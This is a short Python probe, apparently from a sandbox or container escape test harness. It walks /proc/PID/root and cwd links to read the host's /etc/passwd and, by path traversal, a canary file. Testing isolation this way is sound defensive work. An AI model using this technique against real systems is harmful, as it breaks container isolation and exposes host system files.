# Tries: to reach the host through /proc/PID/root and cwd.
import glob
from attack import *
for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    attempt(link, lambda: read(link + "/etc/passwd"))
    attempt(link + "/..", lambda: read(link + "/../../../.." + facts["canary"]))
